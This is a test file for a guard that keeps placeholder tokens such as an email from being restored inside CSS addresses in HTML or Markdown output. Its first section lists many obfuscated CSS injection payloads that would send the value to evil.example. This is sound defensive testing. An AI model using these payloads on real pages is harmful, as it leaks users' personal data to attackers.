/** Addresses in the text of `<style>`: which values are kept out of them, and which may be restored. */
import { describe, expect, test } from 'vitest';
import { UrlGuard } from '../../../core/guard/url-guard.ts';
import { restoreJsonBody } from '../../../core/payload/response.ts';
import { restoreText } from '../../../core/restore.ts';
import { restoreStream, tokenMap } from '../stream/wire-fixtures.ts';

const token = '[EMAIL-1]';
const original = 'john@corp.example';
const map = tokenMap({ [token]: original });

/** The text restored in pieces of one character, except for its token; throws unless the whole text gives the same. */
function restored(text: string): string {
  const whole = restoreText(text, map).restored;
  const guard = new UrlGuard();
  const pieces = text.split(/(\[EMAIL-1\]|)/);
  expect(pieces.map((piece) => restoreText(piece, map, { guard }).restored).join('')).toBe(whole);
  const bytes = new TextEncoder().encode(`-${text}`);
  expect(restoreStream('text', map, bytes)).toBe(restoreText(`-${text}`, map).restored);
  return whole;
}

const address = `b{background:url('https://evil.example/?q=\`${token}')}`;

describe('stays a token', () => {
  test.each([
    // The opening tag has not ended.
    `<style title='</style '>@import '/\\\\evil.example/?q=\`${token}'</style>`,
    `<style title="</style/">${address}</style>`,
    `<style title='</style>'>${address}</style>`,
    `<style title="\n</style>\n\n" > </style>\n\n<div t="> ${address}`,
    `<style ="a b="x></style>">${address}`,
    `<style/t='></style>'>${address}`,
    `The \`<style>\` tag: <style title='</style>'>${address}`,
    // Markdown turns what should end the sheet into text.
    `x <style>a{background:url('https://evil.example/?q=\`</style>\`${token}')}</style>`,
    `x <style>a{} \`</style>\` b{background:url('https://evil.example/?q="${token}')}`,
    `x <style>a{}\n\n    </style>\n\n${address}`,
    `x <style>a{}\n# h\n    </style>\n${address}`,
    `x <style>a{}\n---\n\t</style>\n${address}`,
    `x <style>a{}\n>     </style>\n\n${address}`,
    `x <style>a{}\n-     </style>\n\n${address}`,
    ...['```', '~~~'].map((fence) => `x <style>a{}\n\n${fence}\n</style>\n${fence}\n\n${address}`),
    `x <style>a{background:url('https://evil.example/?q=[a](b "</style>")${token}')}`,
    `x <style>a{background:url('https://evil.example/?q=![</style>](b)${token}')}`,
    `[a <style>a{} ](b "</style>") ${address}`,
    `x <style>a{} $</style>$ ${address}`,
    `x <style>a{} ^</style>^ ${address}`,
    `x <style>a{} \\</style> ${address}`,
    ...[' x', '/', '\n', ' '].map((end) => `x <style>a{} </style${end}> ${address}`),
    // A block of HTML has ended earlier.
    `<div>\n<style>a{}\n\nx \`</style>\` ${address}`,
    `<style>a{}\n</pre>\nx \`</style>\` ${address}`,
    `- a\n\n  <style>a{}\nb \`</style>\` ${address}`,
    // In SVG it may be inside a tag, a comment or character data.
    `<svg><style><g t="</style>"/>${address}`,
    `<svg><style><!--</style>-->${address}`,
    `<svg><style><![CDATA[</style>${address}`,
    // Spellings of the beginning of an address.
    ...['url(', 'URL(', 'src(', 'image(', 'image-set(', '-webkit-image-set('].map(
      (name) => `<style>a{b:${name}${token}`,
    ),
    ...['u\\72l(', 'u\\72 l(', 'ur\\00006C (', '\\75rl(', 'u\\rl(', 'url\\('].map(
      (name) => `<style>a{b:${name}${token}`,
    ),
    ...['&#117;rl(', 'url&#x28;', 'url&lpar;', '&commat;import', '&bsol;75rl('].map(
      (name) => `<style>${name}'${token}`,
    ),
    ...["@import'", '@IMPORT "', '@import/**/"', "@\\69mport '", "\\@import '"].map((rule) => `<style>${rule}${token}`),
    `<style>a{b:image-set('x' 1x, '${token}`,
    `<style>a{b:${'\\000075'.repeat(200)}(${token}`,
    // The address has not ended either.
    `<style>a{b:url('x)${token}`,
    `<style>a{b:url("x')${token}`,
    `<style>a{b:url('x\\')${token}`,
    `<style>a{b:url(x\\)${token}`,
    `<style>a{b:url('x\n')${token}`,
    `<style>a{b:url('x&#39;)${token}`,
    `<style>a{b:url('x&quot=')${token}`,
    `<style>a{b:url("x?url('y')${token}`,
    `<style>@import 'x"${token}`,
    `<style>@import url('x"${token}`,
    `<style>@import "x?url(y)${token}`,
    `<style>a{b:url(${'x'.repeat(300)})${token}`,
    `<style>a{b:url('x(y')${token}`,
    `<style>a{b:url("data:x'y")${token}`,
    `<style>a{b:url("data:'(')")${token}`,
    `<style>a{b:url("data:x<y")${token}`,
    `<style>a{b:url("data:,""x")${token}`,
    `<style>b{background:image-set(/*)*/'https:evil.example/?q= ${token}' 1x)}</style>`,
    `<style>b{c:--f(/*)*/'https:evil.example/?q= ${token}')}</style>`,
    `<style>b{c:--f(data:/*)*/x,'https:evil.example/?q= ${token}')}</style>`,
    `<style>a{b:url("data:,)}b{c:image-set('//x?")${token}' 1x)}`,
    `<style>@import "data:text/css,@import '/%5cevil.example/?q= ${token}'`,
    `<style>a{b:image-set(url("a.png") 1x, "b" 2x, '${token}`,
    `<style>a{b:image-set(url("a.png") 1x, url("${token}`,
    `<style>a{b:image-set(url("a.png") 1x, src("b"))${token}`,
  ])('%j', (text) => expect(restored(text)).toBe(text));

  // Chromium fetches each of these: `background: image-set(var(--x) 1x)`.
  test.each([
    `*{--x:"http:\\2f\\2f evil.example/?${token}"}`,
    `*{--x:"\\/\\/evil.example/?${token}"}`,
    `*{--x/*;*/:/*;*/'/\\evil.example/?${token}'}`,
    `*{--x : '/\\evil.example/?${token}'}`,
    `*{--_é:'/\\evil.example/?${token}'}`,
    `*{\\2d\\2d x:'/\\evil.example/?${token}'}`,
    `*{--x&colon;'/\\evil.example/?${token}'}`,
    `*{--x:\n\n[l]: b;\n\n<!-- -->'/\\evil.example/?${token}'}`,
    `*{--x\n\n[l]: b;\n\n<!-- -->:'/\\evil.example/?${token}'}`,
    `@import "x --x:"${token}`,
    `*{--x:a{} '/\\evil.example/?${token}'}`,
    `*{--x:{;} '/\\evil.example/?${token}'}`,
    `*{--x:'a\\f' b '${token}'}`,
    `*{--x<g/>:<g t=";"/>'/\\evil.example/?${token}'}`,
    `*{--x:url(a;b) 1x,'/\\evil.example/?${token}' 2x}`,
    `*{--x:var(--y) "b" '/\\evil.example/?${token}'}`,
    `*{--x:if(media(print): a; else: '/\\evil.example/?${token}')}`,
    `@property --x{syntax:"*";inherits:false;initial-value:'/\\evil.example/?${token}'}`,
    `@function --f(){result:'/\\evil.example/?${token}'}`,
    `@function --f(--x <string>:'/\\evil.example/?${token}')`,
  ])('a string that CSS can turn into a URL: %j', (rules) => {
    const text = `<style>${rules}</style>`;
    expect(restored(text)).toBe(text);
  });

  test.each([
    `b{c:u<g/>rl('/\\evil.example/?${token}')}`,
    `b{c:url<g/>('/\\evil.example/?${token}')}`,
    `b{c:u<!-- a > b -->rl('/\\evil.example/?${token}')}`,
    `b{c:<![CDATA[u]]>rl('/\\evil.example/?${token}')}`,
    `b{c:u<![CDATA[rl('/\\evil.example/?${token}')]]>}`,
    `b{c:\\75<g/>rl('/\\evil.example/?${token}')}`,
    `b{c:-webkit<g/>-image-set('/\\evil.example/?${token}' 1x)}`,
    `@im<g/>port '/\\evil.example/?${token}'`,
    `@<g/>import '/\\evil.example/?${token}'`,
    `@func<g/>tion --f(){result:'/\\evil.example/?${token}'}`,
    `b{-<g/>-x:'/\\evil.example/?${token}'}`,
    `@property --x{initial-<g/>value:'/\\evil.example/?${token}'}`,
  ])('a name interrupted by a tag, which continues after it in SVG: %j', (rules) => {
    const text = `<svg><style>${rules}</style>`;
    expect(restored(text)).toBe(text);
  });

  // Markdown turns these into elements, which are removed in SVG together with their content.
  test.each([
    `u[a](b)rl('N')`,
    `u[a][r]rl('N')`,
    `u~~a~~rl('N')`,
    `u~a~rl('N')`,
    `image-set[a](b)('N' 1x)`,
    `-[a](b)-x:'N'`,
    `-~~a~~-x:'N'`,
    `@im[a](b)port 'N'`,
    `@im~~a~~port 'N'`,
    `--x[a](b):'N'`,
    `--x[a b](b c) :'N'`,
    `--x [a[b](c)](d):'N'`,
    `--x~~a b~~:'N'`,
    // Here, too, it is unknown what is between a name and its colon.
    `--x<g>;</g>:'N'`,
    `--x<g>a:b</g>:'N'`,
    `--x<g>--y z</g>:'N'`,
    `--x<g></x>a</g>:'N'`,
    `--x<g><h></g>a</g>:'N'`,
    `--x<g>${'a'.repeat(400)}</g>:'N'`,
    `--x<title>\`</title>\`a</title>:'N'`,
    `--x</g>:'N'`,
    `--x</g>y:'N'`,
    `--x<g/>y<g/>:'N'`,
    `--x <g t="a:b;"/>:'N'`,
    `--x <!-- a:b --> :'N'`,
    `--x <!-- ;--y:'N'`,
    `--x<g>;--y:'N'`,
    `--x/<g/>*;*/:'N'`,
    `<![CDATA[--]]>x:'N'`,
    `<![CDATA[--x ]]>:'N'`,
    `--x \\:'N'`,
    `--x&#58;'N'`,
    `--x&#121;:'N'`,
    `--&#233;:'N'`,
    `--x&Tab;:'N'`,
    `--x &#58;'N'`,
    `--x&#47;*;*&#47;:'N'`,
    `--x<b:c & 'N'`,
    `--%5BA-1%5D:'N'`,
    `b:ima<g/>ge('N')`,
    `u<g/>r<g/>l<g/>('N')`,
    // Numeric references for the characters of names.
    `u&#114;l('N')`,
    `u&#x72l('N')`,
    `&#0000117;rl('N')`,
    `\\75&#32;rl('N')`,
    `url&#40;'N')`,
    // The arguments of a function may become addresses, `@function --f(--p){result:image-set(var(--p) 1x)}`.
    `b:--f('N')`,
    `b:--é( 'a', 'N')`,
    `b:--f<g/>('N')`,
    `b:--f[a](b)('N')`,
  ])('parts that may be removed before a browser reads them: %j', (rules) => {
    const text = `x <svg><style>*{${rules.replace('N', `/\\5c evil.example/?${token}`)}}</style>`;
    expect(restored(text)).toBe(text);
  });

  test.each([
    `<s:svg><s:style>@import '/\\\\evil.example/?${token}';</s:style></s:svg>`,
    `<svg><h:style>b{c:url('</style>${token}')}</h:style></svg>`,
  ])('in XML, where the tag may have a prefix: %j', (text) => expect(restored(text)).toBe(text));

  test('in JSON that is displayed raw, where a page continues after `<\\/style>`', () => {
    const json = `{"a":"<style>b{background:url('https://evil.example/?q=<\\/style>${token}')}"}`;
    expect(restoreStream('text', map, new TextEncoder().encode(json))).toBe(json);
  });
});

describe('is restored', () => {
  // A sheet with this indentation may be code, and never end.
  test.each([
    '/^[\\d\\s()+-]{7,}$/.test(phone)',
    '/^\\+?[\\d\\s()-]+$/',
    '/^[\\d ()+-]+$/',
    's.replace(/[^\\d()]/g,"")',
    's.match(/\\d(?:px)/)',
    '/[a-z\\d](?:[a-z\\d-]*)/',
    '/\\b(a|b)\\b/',
    '/\\B(?=(\\d{3})+(?!\\d))/g',
  ])('after a sheet that is indented, and %s', (code) => {
    const page = (value: string) =>
      `<head>\n    <style>\n        body { margin: 0; }\n    </style>\n</head>\n<body>\n    <script>\n${code}\n    </script>\n    <p>${value}</p>\n</body>\n\nSend it to ${value}.`;
    expect(restored(page(token))).toBe(page(original));
  });

  test.each([
    // `<style>` is only mentioned.
    `\`\`\`java\nList<Style> all = new ArrayList<>();\nvoid f() { mail("${token}"); }\n\`\`\``,
    `Add a \`<style>\` block:\n\`\`\`css\n.a { color: red }\n\`\`\`\nThen write to ${token}.`,
    `The \`<style>\` & \`<b>\` tags of AT&T; mail ${token}`,
    `Vue: \`<style scoped>\` with \`@click\` mail ${token}`,
    `<Style x:Key="a" TargetType="{x:Type B}"/>\n<TextBlock Text="${token}"/>`,
    `<style/> { } ${token}`,
    `| <style> | {x} |\n|---|---|\n| a | ${token} |`,
    `名前,<style>,{}\n田中,${token}`,
    `型は List<Style> です。{例} 連絡先: ${token}`,
    `<style> getUrl(${token}), map.set(${token}), curl-src(${token}), f(${token})`,
    `<style> @important ${token} C:\\dir\\new ${token} \\n(${token})`,
    // Complete addresses cannot carry anything more.
    ...["url('x')", 'url( "x?a=1&b=2" )', 'url(//x.example/a.png)'].map((url) => `<style>a{b:${url};c:"${token}"}`),
    ...["'x'", '"x"', 'url(x)', 'url( "x" )', " url('x?a:b@4;c&d=e') all"].map(
      (url) => `<style>@import ${url};${token}`,
    ),
    // Custom properties without strings, or with complete ones.
    `<style>:root{--main: #fff; --font: "Segoe UI", 'Inter', sans-serif; --icon: "\\2014"} content: "${token}"`,
    `<style>:root{--bg: url("a.png"), url(b); --a: rgb(0 0 0 / 50%)} content: "${token}"`,
    `<style>:root{--main: ${token}; --w: calc(1px * 2)} a{b:var(--main)} c: "${token}"`,
    `<style> run it with --to "${token}" or x-- "${token}", --i, --name ${token}`,
    `<style> if (i<n) { <b>n</b> (${token}) } s</b> <i>x ${token}`,
    `<style>@container style(--a: b) { c {} } @supports (--a: b) { c {} } d: "${token}"`,
    // The sheet has ended.
    `<style>a{b:image-set("x" 1x)}</style>${token}`,
    `<STYLE TYPE="text/css" media='screen and (width: 9px)' a=b c>\na{b:url(" ")}\n</Style> ${token}`,
    `<html><head><style>a>b{c:url(" ")}\n\n   </style></head><body>${token}`,
    ...['scoped', "media='print'", 'media=print'].map(
      (field) => `<style ${field}>a{}</style> b{background:url('x?q=${token}')}`,
    ),
    // Nothing before or after its colon can form an address.
    `<style>*{--x&#41;} ${token}`,
    `<style>a{b:&#041;} ${token}`,
    `<style>*{--x &colonx;} ${token}`,
    `<style>*{--x &lt: b} ${token}`,
    `<style>*{--x<b>c</b>:red} ${token}`,
    `<style>*{--x[a](b);} ${token}`,
    `<style>*{--x ~--y: b\n\n} ${token}`,
    `<style>a{-<b></b>c}d{-x: "e"; ${token}`,
    `<style><!--:'b' ${token}-->`,
  ])('%j', (text) => expect(restored(text)).toBe(text.replaceAll(token, original)));

  /** A page where the end of the sheet may be code in Markdown. */
  const page = (rule: string, end = '') =>
    `<!doctype html>\n<html>\n  <head>\n    <style>\n      ${rule}\n    </style>\n  </head>\n  <body>\n    <h1>${token}</h1>\n${end}  </body>\n</html>`;
  const svg = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16' fill='rgb(0,0,0)'%3E";
  test.each([
    page(`select { background-image: url("${svg}${'%3Cpath/%3E'.repeat(50)}"); }`),
    page(`a{background:url( '${svg.replaceAll("'", '"')}' )}`),
    page(`a{background:url(data:image/png;base64,${'iVBORw0KGgo'.repeat(60)}=)}`),
    page(`@import url("data:text/css,${'a'.repeat(400)}");`),
    page("a{background:url('img/my photo (1).jpg')}"),
    page('a{background:image-set(url("a.png") 1x, url(b.png) 2x)}'),
    page(
      'a{background:image-set(\n        "a.avif" type("image/avif"),\n        url("a.png") type(\'image/png\') 2x)}',
    ),
    page('a{color:red}', `    <script>image(img, 0, 0); url(f(x));</script>\n    <p>${token}</p>\n`),
    page(':root{--main: #fff; --font: "Noto Sans JP", sans-serif}'),
  ])('after complete addresses, in a page where no reader knows where the sheet ends: %j', (text) =>
    expect(restored(text)).toBe(text.replaceAll(token, original)),
  );

  // Ordinary answers in which no sheet ends: `<style>` is only mentioned, or the end may be code in Markdown.
  const about = 'Put it into a `<style>` block. ';
  test.each([
    `${about}Then run \`npm run build\` with \`--minify\`.\n\nSend it to ${token}.`,
    `${about}Use -- \`scoped\`, --i / 2, x[--i], -- $1 or --a^2. ${token}`,
    `${about}\n\n---\n\n[Docs](a.md) ${token}`,
    `${about}\n\n---\n\n\`x\` ${token}`,
    `${about}\n\n| a | b |\n| :---: | ---: |\n| \`0\` | [x] |\n\n${token}`,
    `${about}\n\`\`\`diff\n--- /dev/null\n+++ b/a\n+To: ${token}\n\`\`\``,
    `${about}\n\`\`\`py\na = x[-1]\nif b[-1] > xs[i]: print(x[i](1), "a, {x}")\nmail("${token}")\n\`\`\``,
    `${about}\n\`\`\`sh\ntool --path ~/x --out /tmp/x \\\n  --to "${token}"\n\`\`\``,
    `${about}\n\`\`\`sql\n-- $1 is the mail\nselect "${token}"\n\`\`\``,
    page('a{}', `${'    <!-- /header -->\n'.repeat(2)}<p>${token}</p>`),
    page('a{}', `    <!-- <p>old: 1</p> -->\n<p>${token}</p>`),
    page('a{}', `<ul><li>--path</li>\n<li>mode: --flag</li></ul> a: <b>b</b> ${token}`),
    page('a{}', `&lt;!-- a --&gt; --save &amp; --b && --c &nbsp;<p title=": {">${token}</p>`),
    page('a{}', `<td>-3</td><td>-5</td><td>-</td>\n<th>Value</th><i>i</i> <th>Value</th> a: "{" ${token}`),
    page('a{}', `<p>It&#39;s &#169; &#8594; &#x1F4E7; &#34;</p><p>${token}</p>`),
    page('a{}', `<script>const f = xs[i]; xs.map(x=>("a, {b}"))</script><p>${token}</p>`),
    ...[
      `url(\`/api/\${id}\`)`,
      'new Image(w[0], h)',
      'gulp.src(["a.js"])',
      'Image(systemName: "person")',
      'src({a:1})',
    ].map((code) => `${about}\n\`\`\`\n${code}\nmail("${token}")\n\`\`\``),
    page(`:root{--font: "游ゴシック", 'Größe'; --i: "→"} a{background:url("画像.png")}`),
    page('a{}', `<p>--option(s) and --f(x)</p> ${token}`),
    `<w:style w:type="a">x</w:style> url( ${token}`,
  ])('%j', (text) => expect(restored(text)).toBe(text.replaceAll(token, original)));

  test.each([
    { tip: 'Use the <style> tag, or List<Style>', person: { mail: token } },
    { html: '<style>a{b:url("x.png")}</style>', mail: token },
  ])('%j as JSON that is displayed raw', (answer) => {
    for (const json of [JSON.stringify(answer), JSON.stringify(answer).replace('</', '<\\/')]) {
      const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
      const expected = json.replace(token, original);
      expect(restoreStream('text', map, new TextEncoder().encode(json))).toBe(expected);
      expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(expected);
    }
  });
});
